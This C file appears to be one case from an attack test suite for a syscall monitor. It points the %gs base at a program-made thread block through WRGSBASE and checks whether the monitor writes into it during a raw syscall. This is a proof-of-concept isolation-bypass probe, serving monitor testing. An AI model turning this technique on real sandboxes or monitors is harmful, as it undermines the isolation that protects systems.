/*
 * I6: WRGSBASE gives the monitor a thread block of the program's making. The goal is that it is
 * used. Natively the program uses its own %gs base.
 */
#include "attack.h"
#include <sys/auxv.h>

#define CONTINUATION 1 /* the word that an entry writes first */

static uint64_t read_base(void)
{
    uint64_t base;
    __asm__ volatile("rdgsbase %0" : "=r"(base));
    return base;
}

static void write_base(const void *base)
{
    __asm__ volatile("wrgsbase %0" : : "r"(base) : "memory");
}

int main(void)
{
    CHECK((getauxval(AT_HWCAP2) & 2) != 0, "the processor or the kernel has no WRGSBASE");
    bool monitored = under_monitor();
    const void *own = (const void *)read_base();
    uint64_t *block = map_pages(2 * PAGE, PROT_READ | PROT_WRITE); /* block and shared page */
    if (monitored) {
        memcpy(block, own, 2 * PAGE);
        block[0] = (uint64_t)block;
    }
    uint64_t before = block[CONTINUATION];
    write_base(block);
    if (monitored) {
        raw(SYS_getpid);
    } else {
        __asm__ volatile("movq %%rsp, %%gs:8" : : : "memory");
    }
    write_base(own);
    if (block[CONTINUATION] != before) {
        reached();
    }
    not_reached("unused");
}
